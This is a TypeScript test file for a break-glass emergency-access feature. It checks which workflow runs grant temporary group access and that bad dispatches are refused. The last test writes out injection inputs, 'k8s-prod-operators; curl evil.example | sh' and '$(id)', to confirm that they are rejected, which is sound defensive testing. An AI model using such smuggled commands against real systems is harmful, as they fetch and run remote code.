// Break-glass as pure functions: which runs cover whom until when, and the decision on a dispatch.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { grantsFromRuns, judgeBreakGlassRun, runTitle, type BreakGlassRun } from '../../src/breakglass/breakglass.ts';
import { decideBreakGlass } from '../../src/commands/break-glass.ts';
import { fixtureConfig } from '../helpers/config.ts';

const config = await fixtureConfig();
const NOW = Date.parse('2030-01-01T08:00:00Z');
const M = 60_000;
const run = (more: Partial<BreakGlassRun> = {}): BreakGlassRun => ({
  id: 1,
  createdAt: NOW - 10 * M,
  updatedAt: NOW - 9 * M,
  title: runTitle('k8s-prod-operators', '30m', 'hubot'),
  actor: 'hubot',
  headBranch: 'main',
  headSha: 'a'.repeat(40),
  path: '.github/workflows/access-break-glass.yml',
  event: 'workflow_dispatch',
  succeededForActor: true,
  onDefaultBranch: true,
  workflowAtCommit: true,
  workflowAsOnDefault: true,
  ...more,
});
const none = new Set<string>();

test('a successful run on main covers its actor until its first attempt plus the duration', () => {
  assert.deepEqual(grantsFromRuns([run()], config.policy, 'main', NOW, none), [
    { run: 1, group: 'k8s-prod-operators', login: 'hubot', start: NOW - 10 * M, end: NOW + 20 * M },
  ]);
});

test('THREATS 43: nothing covered by a run anyone else could make: no successful attempt by its actor, a tag or branch named like main off its history, an old or altered workflow, another workflow, a title naming someone else, a duration over the maximum, an ended window, a group without break-glass', () => {
  const bad: [Partial<BreakGlassRun>, RegExp][] = [
    [{ succeededForActor: false }, /no attempt started by hubot succeeded/],
    [{ headBranch: 'feature' }, /not on main's history/],
    [{ onDefaultBranch: false }, /not on main's history/],
    [{ workflowAsOnDefault: false }, /is not the one on main now/],
    [{ path: '.github/workflows/other.yml' }, /not a workflow_dispatch run of access-break-glass.yml/],
    [{ event: 'push' }, /not a workflow_dispatch run of access-break-glass.yml/],
    [{ actor: 'octocat' }, /does not name its own actor/],
    [{ title: runTitle('k8s-prod-operators', '3h', 'hubot') }, /3h is over k8s-prod-operators.s break-glass maximum/],
    [{ title: runTitle('prod-db-admins', '30m', 'hubot') }, /does not allow break-glass/],
    [{ title: 'break-glass k8s-prod-operators for 30m by hubot; extra' }, /does not name its own actor/],
  ];
  for (const [more, why] of bad) {
    assert.deepEqual(grantsFromRuns([run(more)], config.policy, 'main', NOW, none), [], JSON.stringify(more));
    const judged = judgeBreakGlassRun(run(more), config.policy, 'main', none);
    assert.ok('why' in judged && why.test(judged.why), `${JSON.stringify(more)}: ${JSON.stringify(judged)}`);
  }
  assert.deepEqual(grantsFromRuns([run({ createdAt: NOW - 31 * M })], config.policy, 'main', NOW, none), [], 'an ended window covers nobody');
});

test('THREATS 43: a team member is covered only while GitHub says they are in the team now', () => {
  const lead = run({ actor: 'lead1', title: runTitle('k8s-prod-operators', '30m', 'lead1') });
  assert.equal(grantsFromRuns([lead], config.policy, 'main', NOW, new Set(['acme/sre-leads:lead1'])).length, 1);
  assert.deepEqual(grantsFromRuns([lead], config.policy, 'main', NOW, none), [], 'left the team (or the team could not be read): not covered');
});

const facts = { actor: 'hubot', run: 7, runCreatedAt: NOW, now: NOW, config, teamMembers: async () => new Set(['lead1']), previous: [] };
const inputs = { group: 'k8s-prod-operators', duration: '30m', ticket: 'INC-1', reason: 'The ingress is down' };

test("a dispatch is granted within the rules, until the run's first attempt plus the duration", async () => {
  const d = await decideBreakGlass(inputs, facts);
  assert.ok(d.ok);
  assert.equal(d.end, NOW + 30 * M);
});

test('a team member is allowed through the team; anyone else is refused; inputs of the wrong type are refused', async () => {
  assert.ok(
    (
      await decideBreakGlass(inputs, {
        ...facts,
        actor: 'lead1',
        config: { ...config, identities: { ...config.identities, users: new Map([...config.identities.users, ['lead1', { upn: 'lead1@contoso.com' }]]) } },
      })
    ).ok,
  );
  const refused = await decideBreakGlass(inputs, { ...facts, actor: 'octocat' });
  assert.ok(!refused.ok && /octocat may not break glass/.test(refused.reasons.join()));
  const typed = await decideBreakGlass({ group: ['k8s-prod-operators'], duration: 30, reason: {} }, facts);
  assert.ok(!typed.ok);
});

test('refused with the reason: a group without break-glass, longer than its maximum, no ticket, a group not in the policy, not a duration', async () => {
  const cases: [Record<string, string>, RegExp][] = [
    [{ ...inputs, group: 'prod-db-admins' }, /prod-db-admins does not allow break-glass/],
    [{ ...inputs, duration: '3h' }, /break-glass for k8s-prod-operators allows at most 1h/],
    [{ ...inputs, ticket: '' }, /needs a ticket/],
    [{ ...inputs, group: 'k8s-prod-operators; curl evil.example | sh' }, /is not in the policy/],
    [{ ...inputs, duration: '$(id)' }, /is not a duration/],
  ];
  for (const [given, why] of cases) {
    const d = await decideBreakGlass(given, facts);
    assert.ok(!d.ok, JSON.stringify(given));
    assert.match(d.reasons.join('\n'), why);
  }
});
